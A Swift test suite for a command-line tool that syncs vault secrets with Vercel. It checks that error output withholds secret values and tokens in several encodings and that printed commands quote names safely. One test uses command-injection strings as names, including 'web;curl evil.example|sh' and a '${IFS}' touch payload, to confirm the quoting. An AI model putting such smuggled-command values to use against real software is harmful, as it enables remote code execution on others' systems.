import Foundation
internal import JSON
import Sandbox
import TestSupport
import Testing

/// Messages of Vercel that repeat a value.
@Suite("Messages of Vercel")
struct VercelWordsTests {
    private static let value = "val-111-aaaaaa"
    private static let other = "other/222?bbbbbb"

    private static var forms: [String] {
        let base64 = Data(value.utf8).base64EncodedString()
        return [
            value, value.uppercased(), base64, "val%2D111%2Daaaaaa", "\\u0076al-111-aaaaaa", other,
        ]
    }

    private static func hides(_ result: ProgramResult, _ form: String, _ status: Int32) {
        #expect(result.status == status, "\(result.error)\(result.output)")
        let text = result.output + result.error
        #expect(!text.contains(form), "\(text)")
    }

    /// A sandbox with `K` and `OTHER`, pushed from the vault.
    private static func platform() throws -> SandboxHome {
        let platform = try SandboxHome()
        try platform.set("K", value)
        try platform.set("OTHER", other)
        done(try platform.push())
        return platform
    }

    @Test("SYNC-A5: a refused rename repeats no value of the vault, in any encoding")
    func rename() throws {
        let platform = try Self.platform()
        done(try platform.run("rename", "K", "K2", "-p", "web"))
        for form in Self.forms {
            try platform.setFaults("POST * says:400:There(value:\(form))")
            for options in [["--json"], []] {
                let result = try platform.runner(["push", "-p", "web", "--yes"] + options).run()
                Self.hides(result, form, 1)
                #expect((result.output + result.error).contains("withheld"))
                #expect((result.output + result.error).contains("bad_request"))
            }
        }
        try platform.setFaults("POST * says:400:There-are-100-variables")
        #expect(try platform.push().output.contains("There-are-100-variables"))
    }

    @Test("SYNC-A5: a refused deletion repeats no value")
    func deletion() throws {
        let platform = try Self.platform()
        done(try platform.run("rm", "K", "-p", "web", "--yes"))
        for form in Self.forms {
            try platform.setFaults("DELETE * says:400:There(value:\(form))")
            let result = try platform.run("push", "-p", "web", "--yes")
            Self.hides(result, form, 1)
            #expect(result.error.contains("bad_request"), "\(result.error)")
        }
    }

    @Test("SYNC-A5: a refused pull repeats no value", arguments: ["*/env", "*/env/*"])
    func pull(path: String) throws {
        let platform = try Self.platform()
        try platform.teammate.send(
            "POST", "/v10/projects/web/env",
            [
                "key": "NEW", "value": "never-seen-here", "type": "encrypted",
                "target": ["production"],
            ])
        for form in Self.forms + ["never-seen-here", "Harmless-words"] {
            try platform.setFaults("GET \(path) says:400:There(value:\(form))")
            for options in [["--json"], []] {
                let result = try platform.runner(["pull", "-p", "web", "--yes"] + options).run()
                Self.hides(result, form, 1)
                #expect((result.output + result.error).contains("bad_request"))
            }
        }
    }

    @Test("SEC-F13: the token is withheld from Vercel's messages in every encoding")
    func token() throws {
        let platform = try Self.platform()
        let base64 = Data(platform.token.utf8).base64EncodedString()
        let percent = platform.token.utf8.map { String(format: "%%%02x", $0) }.joined()
        for form in [platform.token, platform.token.uppercased(), base64, percent] {
            try platform.setFaults("GET * says:400:There(token:\(form))")
            let result = try platform.run("project", "list", "--refresh")
            Self.hides(result, form, 1)
            #expect(result.error.contains("withheld"), "\(result.error)")
        }
        try platform.setFaults("GET * says:400:Harmless-words")
        #expect(
            try platform.run("project", "list", "--refresh").error.contains("Harmless-words"))
    }

    @Test("SEC-F11: printed commands quote the names of the vault and of Vercel")
    func hints() throws {
        let platform = try SandboxHome()
        let (project, key) = ("web;curl evil.example|sh", "K;touch${IFS}/tmp/PWN11")
        done(try platform.run("link", "web", "--as", project))
        done(
            try platform.run(
                "set", key, "-p", project, "-t", "production", input: .text("value")))
        done(
            try platform.run(
                "set", "SEED_ONLY", "-p", project, "-t", "production", input: .text("value")))
        let status = try json(platform.run("status", "--json"))
        let commands = (status["sync"]?["remedies"] ?? status["remedies"])?.elements ?? []
        #expect(
            commands.map { $0["command"] } == [.string("zg-env push -p '\(project)'")],
            "\(status)")
        #expect(
            try platform.run("status").output.contains("zg-env push -p '\(project)'"))
        // The two resolutions of a conflict.
        let conflict = try platform.run("push", "SEED_ONLY", "-p", project, "--yes")
        #expect(conflict.status == 5)
        #expect(
            conflict.error.contains("zg-env push SEED_ONLY -p '\(project)' --force"),
            "\(conflict.error)")
        let unnamed = try platform.run("restore-version", key, "9", "-p", project)
        #expect(unnamed.error.contains("zg-env history '\(key)'"), "\(unnamed.error)")
        done(try platform.run("set", "EMPTY", "-p", project, "--allow-empty", input: .text("")))
        let doctor = try platform.run("doctor", "-p", project, "--offline").output
        #expect(doctor.contains("-p '\(project)'") && !doctor.contains("-p web;"), "\(doctor)")
    }
}
